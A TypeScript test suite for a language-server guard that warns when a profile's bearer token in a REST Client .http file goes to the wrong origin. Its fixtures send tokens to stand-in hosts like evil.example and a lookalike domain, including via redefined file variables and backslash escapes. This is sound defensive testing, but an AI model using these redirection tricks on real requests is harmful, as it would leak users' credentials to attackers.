// The destination guard over a real LSP connection (the server in this process, two streams): a token of a profile
// sent to another origin is warned about, pasted or behind a file variable, {{$dotenv}} (env files on disk, found as
// REST Client finds them) or {{$processEnv}}; a URL that cannot be resolved gets no warning; the quick fix names the
// profiles of the request's origin. And the synced .env shadowed for REST Client's environment. The documents are
// sent redacted, as the extension sends them, and no token value comes back.
import { strict as assert } from 'node:assert';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import {
  CodeActionRequest,
  CodeLensRequest,
  CompletionRequest,
  type CodeAction,
  type CompletionItem,
  type CompletionList,
  type Diagnostic,
  type Position,
} from 'vscode-languageserver-protocol/node';
import { RequestContextNotification, StaleTokensRequest } from '../../server/src/messages';
import { ClientCommands } from '@shared/protocol/clientCommands';
import { DiagnosticCodes } from '@shared/protocol/diagnosticCodes';
import type { RequestContextParams } from '@shared/protocol/requestContext';
import type { TokenStateParams, TokenSummary } from '@shared/protocol/tokenState';
import { tokenFingerprint } from '@shared/tokens/fingerprint';
import { redactTokens } from '@shared/tokens/redactTokens';
import { makeJwt } from '../support/jwt';
import { TestClient } from '../support/lsp/testClient';

const NOW = Date.UTC(2026, 0, 1);
const PROD = 'https://api.c2m.example:443';
const STAGING = 'https://staging.c2m.example:443';
const prodToken = makeJwt({ jti: 'p1', iat: NOW / 1000, exp: NOW / 1000 + 900 });
const stagingToken = makeJwt({ jti: 's1', iat: NOW / 1000, exp: NOW / 1000 + 900 });
/** A token of Production that expired a minute ago: stale, so "replace" fixes and lenses would offer a fresh one. */
const expiredProdToken = makeJwt({ jti: 'p0', iat: NOW / 1000 - 900, exp: NOW / 1000 - 60 });

function meta(value: string, profileId: string, tokenId: string, expiresAt = NOW + 900_000): TokenSummary {
  return {
    profileId,
    profileName: profileId,
    kind: 'short',
    tokenId,
    fingerprint: tokenFingerprint(value),
    scopes: [],
    issuedAt: expiresAt - 900_000,
    expiresAt,
    status: expiresAt > NOW ? 'valid' : 'expired',
  };
}

const state: TokenStateParams = {
  tokens: [
    meta(prodToken, 'prod', 'p1'),
    meta(stagingToken, 'staging', 's1'),
    meta(expiredProdToken, 'prod', 'p0', NOW - 60_000),
  ],
  profiles: [
    { id: 'prod', name: 'Production', active: true, usable: true, origin: PROD },
    { id: 'staging', name: 'Staging', active: false, usable: true, origin: STAGING },
  ],
  refreshMarginMs: 60_000,
  now: NOW,
};

function context(over: Partial<RequestContextParams> = {}): RequestContextParams {
  return {
    syncTargets: [],
    restClient: { environment: null, environments: [] },
    terminalToken: false,
    revision: 1,
    ...over,
  };
}

const wrong = (items: Diagnostic[]): Diagnostic[] => items.filter((d) => d.code === DiagnosticCodes.wrongDestination);

/** The messages of a diagnostic's related information, in order. */
const details = (d: Diagnostic): string[] => (d.relatedInformation ?? []).map((r) => r.message);

/** The offset of an LSP position in `text` (lines end at \r\n, \n or \r, as LSP counts them). */
function offsetAt(text: string, pos: Position): number {
  let offset = 0;
  for (let line = 0; line < pos.line; line++) {
    const next = text.slice(offset).search(/\r\n|\n|\r/);
    if (next === -1) return text.length;
    offset += next + (text.startsWith('\r\n', offset + next) ? 2 : 1);
  }
  return offset + pos.character;
}

/** `text` with what a remove fix deletes taken out, as VS Code applies the deletion. */
function applyRemoval(text: string, args: ClientCommands.RemoveTokenArgs): string {
  return text.slice(0, offsetAt(text, args.remove.start)) + text.slice(offsetAt(text, args.remove.end));
}
const shadowed = (items: Diagnostic[]): Diagnostic[] => items.filter((d) => d.code === DiagnosticCodes.syncShadowed);

describe('destination guard (in-process server)', function () {
  let client: TestClient;
  let dir: string;
  let n = 0;

  /** Writes `text` as a request file under `sub` of the temp folder, opens it redacted, returns its URI and diagnostics. */
  async function request(text: string, sub = ''): Promise<{ uri: string; items: Diagnostic[] }> {
    const folder = path.join(dir, sub);
    mkdirSync(folder, { recursive: true });
    const file = path.join(folder, `r${++n}.http`);
    writeFileSync(file, text);
    const uri = pathToFileURL(file).toString();
    await client.open(uri, 'http', redactTokens(text));
    return { uri, items: await client.diagnostics(uri) };
  }

  async function setContext(c: RequestContextParams): Promise<void> {
    await client.connection.sendNotification(RequestContextNotification, c);
    await client.diagnostics('file:///nothing.http'); // a round trip: the notification was handled
  }

  /** The quick fixes at a diagnostic, asked as VS Code asks: its range, itself in the context. */
  async function fixesAt(uri: string, d: Diagnostic): Promise<CodeAction[]> {
    return (await client.connection.sendRequest(CodeActionRequest.type, {
      textDocument: { uri },
      range: d.range,
      context: { diagnostics: [d] },
    })) as CodeAction[];
  }

  const commandsOf = (actions: CodeAction[]): string[] => actions.map((a) => a.command?.command ?? '');

  before(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'c2m-dest-'));
    client = TestClient.inProcess({
      now: () => NOW,
      processEnv: { STAGING_TOKEN: stagingToken, PROD_HOST: 'api.c2m.example' },
    });
    await client.initialize();
    await client.tokenState(state);
  });

  beforeEach(() => setContext(context()));

  after(() => {
    const traffic = client.traffic();
    for (const value of [prodToken, stagingToken]) {
      assert.ok(!traffic.includes(value), 'a token value crossed the connection');
      assert.ok(!traffic.includes(value.split('.')[2]!), 'a signature crossed the connection');
    }
    client.dispose();
    rmSync(dir, { recursive: true, force: true });
  });

  it('warns on a pasted token sent to another origin, naming profile and hosts, and not on the same token at home', async () => {
    const { items } = await request(
      `GET https://staging.c2m.example/v1/jobs\nAuthorization: Bearer ${prodToken}\n\n###\nGET https://api.c2m.example/v1/jobs\nAuthorization: Bearer ${prodToken}\n`,
    );
    const w = wrong(items);
    assert.equal(w.length, 1, JSON.stringify(items));
    assert.equal(w[0]!.range.start.line, 1);
    assert.match(String(w[0]!.message), /profile "Production".*https:\/\/staging\.c2m\.example/);
  });

  it('says it short, as users write origins: "Token of profile X sent to <origin>", and where its token belongs in the details', async () => {
    const { items } = await request(
      `GET https://staging.c2m.example/v1/jobs\nAuthorization: Bearer ${prodToken}\n\n###\nGET http://localhost:8080/v1/jobs\nAuthorization: Bearer ${prodToken}\n`,
    );
    const [staging, local] = wrong(items);
    assert.ok(staging && local, JSON.stringify(items));
    assert.equal(staging.message, 'Token of profile "Production" sent to https://staging.c2m.example');
    assert.equal(local.message, 'Token of profile "Production" sent to http://localhost:8080');
    for (const d of [staging, local]) {
      const text = [d.message, ...details(d)].join('\n');
      assert.ok(!/:443|:80\b/.test(text), `no default port: ${text}`);
      assert.ok(
        details(d).some(
          (m) => m.includes('the token of profile "Production"') && m.includes('belongs to https://api.c2m.example'),
        ),
        JSON.stringify(details(d)),
      );
      for (const r of d.relatedInformation ?? []) assert.equal(r.location.uri, d.relatedInformation![0]!.location.uri);
    }
    assert.ok(
      details(staging).some((m) => m.includes('Profile "Staging" has this origin')),
      JSON.stringify(details(staging)),
    );
  });

  it('at a host no profile belongs to: no fix that keeps the token going there, "Remove the Authorization header", and says why no profile\'s token is offered', async () => {
    const text = `GET https://evil.example/v1/jobs\nAccept: */*\nAuthorization: Bearer ${prodToken}\nX-Trace: 1\n\n{"a": 1}\n`;
    const { uri, items } = await request(text);
    const [d, ...more] = wrong(items);
    assert.ok(d, JSON.stringify(items));
    assert.equal(more.length, 0);
    assert.equal(d.message, 'Token of profile "Production" sent to https://evil.example');
    assert.ok(
      details(d).some((m) =>
        /No C2M profile has the origin https:\/\/evil\.example: no profile's token is offered for this request/.test(m),
      ),
      JSON.stringify(details(d)),
    );
    assert.ok(details(d).some((m) => m.includes('belongs to https://api.c2m.example')));
    const actions = await fixesAt(uri, d);
    const commands = commandsOf(actions);
    for (const keeps of [ClientCommands.replaceToken, ClientCommands.moveTokenToEnv, ClientCommands.useProfileToken])
      assert.ok(
        !commands.includes(keeps),
        `${keeps} keeps the token going there: ${JSON.stringify(actions.map((a) => a.title))}`,
      );
    const remove = actions.find((a) => a.command?.command === ClientCommands.removeToken);
    assert.ok(remove, JSON.stringify(actions.map((a) => a.title)));
    assert.equal(remove.title, 'Remove the Authorization header');
    assert.equal(remove.isPreferred, true);
    const args = remove.command!.arguments![0] as ClientCommands.RemoveTokenArgs;
    assert.deepEqual(args.range, d.range);
    assert.equal(args.fingerprint, tokenFingerprint(prodToken));
    assert.equal(applyRemoval(text, args), 'GET https://evil.example/v1/jobs\nAccept: */*\nX-Trace: 1\n\n{"a": 1}\n');
    assert.ok(commands.includes(ClientCommands.revokeTokenByFingerprint), 'revoking it still makes sense');
  });

  it("at another profile's host: no Replace or Move either (the same token would go there), but its profile's token and Remove", async () => {
    const text = `GET https://staging.c2m.example/v1/jobs\nAuthorization: Bearer ${prodToken}\n`;
    const { uri, items } = await request(text);
    const [d] = wrong(items);
    assert.ok(d);
    const commands = commandsOf(await fixesAt(uri, d));
    assert.ok(!commands.includes(ClientCommands.replaceToken), JSON.stringify(commands));
    assert.ok(!commands.includes(ClientCommands.moveTokenToEnv), JSON.stringify(commands));
    assert.ok(commands.includes(ClientCommands.useProfileToken));
    assert.ok(commands.includes(ClientCommands.removeToken));
    // At home the same token keeps its fixes.
    const home = await request(`GET https://api.c2m.example/v1/jobs\nAuthorization: Bearer ${prodToken}\n`);
    const at = { start: { line: 1, character: 25 }, end: { line: 1, character: 25 } };
    const homeActions = (await client.connection.sendRequest(CodeActionRequest.type, {
      textDocument: { uri: home.uri },
      range: at,
      context: { diagnostics: [] },
    })) as CodeAction[];
    assert.ok(commandsOf(homeActions).includes(ClientCommands.replaceToken));
    assert.ok(commandsOf(homeActions).includes(ClientCommands.moveTokenToEnv));
  });

  it('a stale token sent to another host is left out of "replace all stale tokens" and its lens offers no replace', async () => {
    const text = `GET https://evil.example/v1/jobs\nAuthorization: Bearer ${expiredProdToken}\n\n###\nGET https://api.c2m.example/v1/jobs\nAuthorization: Bearer ${expiredProdToken}\n`;
    const { uri } = await request(text);
    const stale = await client.connection.sendRequest(StaleTokensRequest, { uri });
    assert.deepEqual(
      stale.map((t) => t.range.start.line),
      [5],
      'only the one at its own origin',
    );
    const lenses = (await client.connection.sendRequest(CodeLensRequest.type, { textDocument: { uri } })) ?? [];
    const replacing = lenses.filter((l) => l.command?.command === ClientCommands.replaceToken);
    assert.deepEqual(
      replacing.map((l) => l.range.start.line),
      [4],
      JSON.stringify(lenses.map((l) => l.command?.title)),
    );
    const all = lenses.find((l) => l.command?.command === ClientCommands.replaceStaleTokens);
    assert.equal(all?.command?.title, 'Replace all stale tokens (1)');
    const elsewhere = lenses.find((l) => l.range.start.line === 0 && l.command?.command === '');
    assert.ok(elsewhere, JSON.stringify(lenses.map((l) => l.command?.title)));
    assert.match(elsewhere.command!.title, /sent to https:\/\/evil\.example/);
  });

  it('the remove fix keeps every other byte: generated requests around the header, any line ends, a reference or the token', async () => {
    const line = fc.constantFrom('\n', '\r\n');
    const word = fc.stringMatching(/^[A-Za-z0-9 ,;=.*/-]{0,12}$/);
    const headerName = fc.stringMatching(/^X-[A-Za-z0-9-]{1,10}$/);
    const header = fc.tuple(headerName, word, line).map(([n, v, end]) => `${n}: ${v}${end}`);
    const preamble = fc.array(
      fc.tuple(fc.stringMatching(/^(# |\/\/ )[A-Za-z0-9 ]{0,15}$/), line).map(([c, end]) => c + end),
      { maxLength: 3 },
    );
    const body = fc.option(
      fc.tuple(
        line,
        fc.array(
          fc.tuple(word, line).map(([w, end]) => `{"k": "${w}"}${end}`),
          { maxLength: 3 },
        ),
      ),
    );
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(
        preamble,
        fc.tuple(fc.constantFrom('GET', 'POST'), line),
        fc.array(header, { maxLength: 3 }),
        fc.constantFrom('Authorization: Bearer ', 'authorization:  Bearer ', 'X-Token: '),
        fc.constantFrom('literal', 'reference'),
        fc.option(line, { nil: '' }),
        fc.array(header, { maxLength: 3 }),
        body,
        async (pre, [method, requestEnd], before, name, how, authEnd, after, rest) => {
          const variable = how === 'reference' ? `@tok = ${prodToken}${requestEnd}${requestEnd}` : '';
          const value = how === 'reference' ? '{{tok}}' : prodToken;
          const head = `${pre.join('')}${variable}${method} https://evil.example/v1/jobs${requestEnd}${before.join('')}`;
          // The header without a line end is the last line of the file: nothing may come after it.
          const tail = authEnd === '' ? '' : `${after.join('')}${rest ? rest[0] + rest[1].join('') : ''}`;
          const text = `${head}${name}${value}${authEnd}${tail}`;
          const uri = pathToFileURL(path.join(dir, `prop${++runs}.http`)).toString();
          await client.open(uri, 'http', redactTokens(text));
          const [d] = wrong(await client.diagnostics(uri));
          assert.ok(d, text);
          const remove = (await fixesAt(uri, d)).find((a) => a.command?.command === ClientCommands.removeToken);
          assert.ok(remove, text);
          const headerName = name.slice(0, name.indexOf(':'));
          assert.equal(remove.title, `Remove the ${headerName} header`);
          assert.equal(
            applyRemoval(text, remove.command!.arguments![0] as ClientCommands.RemoveTokenArgs),
            head + tail,
          );
        },
      ),
      { numRuns: 60 },
    );
  });

  it('a token outside the headers (request line, body): "Remove the token" deletes the token only', async () => {
    const text = `POST https://evil.example/v1/jobs?access_token=${prodToken}&x=1\r\nContent-Type: text/plain\r\n\r\ntoken=${prodToken}\r\n`;
    const { uri, items } = await request(text);
    const w = wrong(items);
    assert.equal(w.length, 2, JSON.stringify(items));
    let after = text;
    for (const d of [...w].reverse()) {
      const remove = (await fixesAt(uri, d)).find((a) => a.command?.command === ClientCommands.removeToken);
      assert.equal(remove?.title, 'Remove the token');
      after = applyRemoval(after, remove!.command!.arguments![0] as ClientCommands.RemoveTokenArgs);
    }
    assert.equal(
      after,
      'POST https://evil.example/v1/jobs?access_token=&x=1\r\nContent-Type: text/plain\r\n\r\ntoken=\r\n',
    );
  });

  it('follows file variables (a chain) in the URL and a token behind {{token}}', async () => {
    const { items } = await request(
      `@host = staging.c2m.example\n@base = https://{{host}}/v1\n@token = ${prodToken}\n\nGET {{base}}/jobs HTTP/1.1\nAuthorization: Bearer {{token}}\n`,
    );
    const w = wrong(items);
    assert.equal(w.length, 1, JSON.stringify(items));
    assert.equal(w[0]!.range.start.line, 5);
    assert.equal(w[0]!.range.start.character, 'Authorization: Bearer '.length);
    assert.ok(
      details(w[0]!).some((m) => m.includes('through {{token}}')),
      JSON.stringify(details(w[0]!)),
    );
  });

  it('reads {{$dotenv NAME}} from the .env REST Client reads (searching upward) and {{$processEnv NAME}} from the process', async () => {
    writeFileSync(path.join(dir, '.env'), `C2M_ACCESS_TOKEN=${prodToken}\n`);
    const { items } = await request(
      'GET https://staging.c2m.example/v1\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\nX-Other: {{$processEnv STAGING_TOKEN}}\n',
      'deep/er',
    );
    const w = wrong(items);
    assert.equal(w.length, 1, JSON.stringify(items)); // the staging token goes to staging: fine
    assert.equal(w[0]!.range.start.line, 1);
    const env = await request(
      'GET https://{{$processEnv PROD_HOST}}/v1\nAuthorization: Bearer {{$processEnv STAGING_TOKEN}}\n',
    );
    assert.equal(wrong(env.items).length, 1, 'the URL host from the process environment');
  });

  it('reads file variables as REST Client does: on every line of the file, and a name defined twice both ways', async () => {
    // REST Client takes `@name = value` from any line (a body line too), the last one winning (older versions: the
    // first). A repository's file that defines the host again below the request sends the token there.
    const below = await request(
      `@host = https://api.c2m.example\n\n###\nPOST {{host}}/v1/jobs\nAuthorization: Bearer ${prodToken}\n\n@host = https://api.c2m.example.evil.test\n`,
    );
    const above = await request(
      `@host = https://api.c2m.example.evil.test\n\n###\n@host = https://api.c2m.example\n\nPOST {{host}}/v1/jobs\nAuthorization: Bearer ${prodToken}\n`,
    );
    const token = await request(
      `@token = ${stagingToken}\n@token = ${prodToken}\n\nGET https://api.c2m.example/v1/jobs\nAuthorization: Bearer {{token}}\n`,
    );
    assert.deepEqual(
      [below, above, token].map(({ items }) => wrong(items).map((d) => d.message)),
      [
        ['Token of profile "Production" sent to https://api.c2m.example.evil.test'],
        ['Token of profile "Production" sent to https://api.c2m.example.evil.test'],
        ['Token of profile "Staging" sent to https://api.c2m.example'],
      ],
    );
  });

  it("takes a file variable's backslash escapes off as REST Client does (a URL parser reads `\\` as `/`)", async () => {
    // REST Client sends `https://api.c2m.example\.evil.test` as https://api.c2m.example.evil.test; read as it is
    // written, the backslash ends the host at api.c2m.example.
    const { items } = await request(
      `@host = https://api.c2m.example\\.evil.test\n\nGET {{host}}/v1/jobs\nAuthorization: Bearer ${prodToken}\n`,
    );
    assert.deepEqual(
      wrong(items).map((d) => d.message),
      ['Token of profile "Production" sent to https://api.c2m.example.evil.test'],
    );
  });

  it('says nothing when the URL cannot be resolved (unknown variable, request variable, settings environment)', async () => {
    const { items } = await request(
      `GET https://{{host}}/v1\nAuthorization: Bearer ${prodToken}\n\n###\nGET {{login.response.body.$.url}}\nAuthorization: Bearer ${prodToken}\n\n###\nGET https://{{$processEnv %hostKey}}/x\nAuthorization: Bearer ${prodToken}\n\n###\nGET /relative\nAuthorization: Bearer ${prodToken}\n`,
    );
    assert.deepEqual(wrong(items), []);
  });

  it('the details move with their warning, and a change in them alone is a new report (not "unchanged")', async () => {
    const { uri } = await request(
      `# notes\n\n###\nGET https://staging.c2m.example/v1\nAuthorization: Bearer ${prodToken}\n`,
    );
    const first = await client.diagnosticReport(uri);
    assert.equal(first.kind, 'full');
    const [before] = wrong(first.kind === 'full' ? first.items : []);
    assert.deepEqual(
      before?.relatedInformation?.map((r) => r.location.range.start.line),
      [4, 3],
      'on the token, and on the request line',
    );
    await client.change(uri, [
      { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: '# more\n' },
    ]);
    const shifted = await client.diagnosticReport(uri, first.resultId);
    assert.equal(shifted.kind, 'full');
    const [moved] = wrong(shifted.kind === 'full' ? shifted.items : []);
    assert.equal(moved?.range.start.line, 5);
    assert.deepEqual(
      moved.relatedInformation?.map((r) => r.location.range.start.line),
      [5, 4],
    );
    try {
      await client.tokenState({
        ...state,
        profiles: state.profiles.map((p) => (p.id === 'staging' ? { ...p, usable: false } : p)),
      });
      const changed = await client.diagnosticReport(uri, shifted.resultId);
      assert.equal(changed.kind, 'full', 'only the details changed: still a full report');
      const [d] = wrong(changed.kind === 'full' ? changed.items : []);
      assert.equal(d?.message, moved.message);
      assert.ok(
        details(d).some((m) => m.includes('no live long-term token')),
        JSON.stringify(details(d)),
      );
    } finally {
      await client.tokenState(state);
    }
  });

  it('follows edits: a line added above moves the warning, a changed file variable re-judges every request', async () => {
    const { uri, items } = await request(
      `@host = staging.c2m.example\n\n###\nGET https://{{host}}/v1\nAuthorization: Bearer ${prodToken}\n\n###\nGET https://{{host}}/v2\nAuthorization: Bearer ${prodToken}\n`,
    );
    assert.deepEqual(
      wrong(items).map((d) => d.range.start.line),
      [4, 8],
    );
    await client.change(uri, [
      { range: { start: { line: 2, character: 0 }, end: { line: 2, character: 0 } }, text: '# a comment\n' },
    ]);
    assert.deepEqual(
      wrong(await client.diagnostics(uri)).map((d) => d.range.start.line),
      [5, 9],
    );
    await client.change(uri, [
      { range: { start: { line: 0, character: 8 }, end: { line: 0, character: 15 } }, text: 'api' },
    ]);
    assert.deepEqual(wrong(await client.diagnostics(uri)), [], "the host is now the profile's own");
  });

  it('offers "Use the token of profile X" for the profile of the request\'s origin, with no value in it', async () => {
    const { uri, items } = await request(
      `GET https://staging.c2m.example/v1\nAuthorization: Bearer ${prodToken}\nX-Ref: {{$processEnv STAGING_TOKEN}}\n`,
    );
    const [d] = wrong(items);
    assert.ok(d);
    const actions = (await client.connection.sendRequest(CodeActionRequest.type, {
      textDocument: { uri },
      range: d.range,
      context: { diagnostics: [d] },
    })) as CodeAction[];
    const fix = actions.find((a) => a.command?.command === ClientCommands.useProfileToken);
    assert.ok(fix, JSON.stringify(actions.map((a) => a.title)));
    assert.equal(fix.title, 'Use the token of profile "Staging"');
    const args = fix.command!.arguments![0] as ClientCommands.UseProfileTokenArgs;
    assert.equal(args.profileId, 'staging');
    assert.equal(args.fingerprint, tokenFingerprint(prodToken));
    assert.deepEqual(args.range, d.range);
  });

  it("treats {{$processEnv C2M_ACCESS_TOKEN}} as the active profile's token when the terminal gets it", async () => {
    await setContext(context({ terminalToken: true }));
    const { items } = await request(
      'GET https://staging.c2m.example/v1\nAuthorization: Bearer {{$processEnv C2M_ACCESS_TOKEN}}\n',
    );
    assert.equal(wrong(items).length, 1);
    await setContext(context({ terminalToken: false }));
    const off = await request(
      'GET https://staging.c2m.example/v1\nAuthorization: Bearer {{$processEnv C2M_ACCESS_TOKEN}}\n',
    );
    assert.deepEqual(wrong(off.items), []);
  });

  describe('the synced .env shadowed for REST Client', () => {
    let root: string;
    let synced: string;
    before(() => {
      root = path.join(dir, 'shadow');
      mkdirSync(path.join(root, 'api'), { recursive: true });
      synced = path.join(root, '.env');
      writeFileSync(synced, 'C2M_ACCESS_TOKEN=\n');
      writeFileSync(path.join(root, 'api', '.env.prod'), 'C2M_ACCESS_TOKEN=old\n');
    });
    const target = (): RequestContextParams['syncTargets'] => [
      { uri: pathToFileURL(synced).toString(), variable: 'C2M_ACCESS_TOKEN' },
    ];
    const REQUEST = 'GET https://api.c2m.example/v1\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n';

    it('warns when the selected environment has its own .env.<name> closer to the request, and offers to sync there', async () => {
      await setContext(
        context({ syncTargets: target(), restClient: { environment: 'prod', environments: ['prod', 'dev'] } }),
      );
      const { uri, items } = await request(REQUEST, 'shadow/api');
      const [d, ...rest] = shadowed(items);
      assert.ok(d, JSON.stringify(items));
      assert.equal(rest.length, 0);
      assert.match(
        String(d.message),
        /environment "prod".*reads C2M_ACCESS_TOKEN from \.env\.prod, not from \.\.\/\.env/,
      );
      const actions = (await client.connection.sendRequest(CodeActionRequest.type, {
        textDocument: { uri },
        range: d.range,
        context: { diagnostics: [d] },
      })) as CodeAction[];
      const fix = actions.find((a) => a.command?.command === ClientCommands.syncEnvThere);
      assert.ok(fix);
      assert.equal(fix.title, 'Sync C2M_ACCESS_TOKEN to .env.prod instead');
      const args = fix.command!.arguments![0] as ClientCommands.SyncEnvThereArgs;
      assert.equal(args.to, pathToFileURL(path.join(root, 'api', '.env.prod')).toString());
    });

    it('says nothing for another environment or none, and with the sync off', async () => {
      await setContext(
        context({ syncTargets: target(), restClient: { environment: 'dev', environments: ['prod', 'dev'] } }),
      );
      assert.deepEqual(shadowed((await request(REQUEST, 'shadow/api')).items), []);
      await setContext(context({ syncTargets: target(), restClient: { environment: null, environments: ['prod'] } }));
      assert.deepEqual(shadowed((await request(REQUEST, 'shadow/api')).items), []);
      await setContext(context({ syncTargets: [], restClient: { environment: 'prod', environments: ['prod'] } }));
      assert.deepEqual(shadowed((await request(REQUEST, 'shadow/api')).items), []);
    });

    it('when the selected environment cannot be read, names each environment whose own file defines the variable', async () => {
      await setContext(context({ syncTargets: target(), restClient: { environments: ['prod', 'dev'] } }));
      const items = shadowed((await request(REQUEST, 'shadow/api')).items);
      assert.equal(items.length, 1, JSON.stringify(items));
      assert.match(String(items[0]!.message), /^When REST Client's environment is "prod"/);
    });

    it('warns when a closer .env shadows the synced one whatever the environment', async () => {
      mkdirSync(path.join(root, 'web'), { recursive: true });
      writeFileSync(path.join(root, 'web', '.env'), 'OTHER=1\n');
      await setContext(context({ syncTargets: target(), restClient: { environment: null, environments: [] } }));
      const items = shadowed((await request(REQUEST, 'shadow/web')).items);
      assert.equal(items.length, 1);
      assert.match(String(items[0]!.message), /^REST Client reads C2M_ACCESS_TOKEN from \.env, not from \.\.\/\.env/);
    });
  });
  describe("completion offers only the profiles of the request's origin", () => {
    /** What is offered at the end of the last line of `text` (the Authorization header being typed). */
    async function completion(text: string): Promise<{ items: CompletionItem[]; incomplete: boolean; at: Position }> {
      const { uri } = await request(text);
      const lines = text.split('\n');
      const at = { line: lines.length - 1, character: lines.at(-1)!.length };
      const answer = (await client.connection.sendRequest(CompletionRequest.type, {
        textDocument: { uri },
        position: at,
      })) as CompletionItem[] | CompletionList | null;
      const items = Array.isArray(answer) ? answer : (answer?.items ?? []);
      return { items, incomplete: !Array.isArray(answer) && answer?.isIncomplete === true, at };
    }

    /** The labels of the items offered at the end of the last line of `text`. */
    async function offered(text: string): Promise<string[]> {
      return (await completion(text)).items.map((i) => String(i.label));
    }

    const HINT = 'No C2M profile for https://api.c2m.example.evil.test — tokens are offered only to their own origin';

    it('a request to a lookalike host, written out or behind a file variable, gets no token and no reference', async () => {
      assert.deepEqual(await offered('GET https://api.c2m.example.evil.test/v1/jobs\nAuthorization:'), [HINT]);
      assert.deepEqual(
        await offered('@host = https://api.c2m.example.evil.test\n\nGET {{host}}/v1/jobs\nAuthorization:'),
        [HINT],
      );
    });

    it('at a host no profile belongs to, one hint says why: it inserts nothing, runs nothing, and names where the tokens belong', async () => {
      for (const text of [
        'GET https://api.c2m.example.evil.test/v1/jobs\nAuthorization: Bearer ',
        'GET https://api.c2m.example.evil.test/v1/jobs\nAuth',
        'GET https://api.c2m.example.evil.test/v1/jobs\nAuthorization: Bearer {{',
      ]) {
        const { items, incomplete, at } = await completion(text);
        assert.deepEqual(
          items.map((i) => i.label),
          [HINT],
          text,
        );
        const [hint] = items;
        assert.deepEqual(
          hint!.textEdit,
          { range: { start: at, end: at }, newText: '' },
          'accepting it changes no byte',
        );
        assert.equal(hint!.command, undefined);
        assert.equal(hint!.filterText, '');
        assert.ok(incomplete, 'asked again as the user types, so the hint stays while they do');
        const doc = typeof hint!.documentation === 'string' ? hint!.documentation : (hint!.documentation?.value ?? '');
        assert.match(`${hint!.detail ?? ''}\n${doc}`, /Production.*https:\/\/api\.c2m\.example\b(?!\.evil)/s);
        assert.ok(!`${hint!.detail ?? ''}${doc}`.includes(':443'));
      }
    });

    it('after {{ in a request to a host no profile has, no reference to the synced token; in a file variable line it stays', async () => {
      const labels = await offered('GET https://api.c2m.example.evil.test/v1/jobs\nAuthorization: Bearer {{');
      assert.ok(!labels.some((l) => l.includes('$dotenv')), JSON.stringify(labels));
      // A file variable is file-scoped (any request may use it): the reference is still offered there.
      const preamble = await offered('@token = {{');
      assert.deepEqual(preamble, ['{{$dotenv C2M_ACCESS_TOKEN}}']);
    });

    it('a host behind a backslash escape in a file variable gets no token', async () => {
      assert.deepEqual(
        await offered('@host = https://api.c2m.example\\.evil.test\n\nGET {{host}}/v1/jobs\nAuthorization:'),
        [HINT],
      );
    });

    it('a host defined again on a later line (a body line too), or defined twice, gets no token for either definition', async () => {
      for (const text of [
        '@host = https://api.c2m.example\n\n###\nPOST {{host}}/v1/jobs\nContent-Type: text/plain\n\n@host = https://api.c2m.example.evil.test\n\n###\nGET {{host}}/v1/jobs\nAuthorization:',
        '@host = https://api.c2m.example.evil.test\n\n###\n@host = https://api.c2m.example\n\nPOST {{host}}/v1/jobs\nAuthorization:',
      ]) {
        const labels = await offered(text);
        assert.deepEqual(labels, [HINT], text);
      }
    });

    it("a request to a profile's origin gets that profile only; one that does not resolve gets every usable profile", async () => {
      const prod = await offered('GET https://api.c2m.example/v1/jobs\nAuthorization:');
      assert.ok(
        prod.some((l) => l.includes('Production')) && !prod.some((l) => l.includes('Staging')),
        JSON.stringify(prod),
      );
      const unknown = await offered('GET {{$dotenv API_HOST}}/v1/jobs\nAuthorization:');
      assert.ok(
        unknown.some((l) => l.includes('Production')) && unknown.some((l) => l.includes('Staging')),
        JSON.stringify(unknown),
      );
    });
  });
});
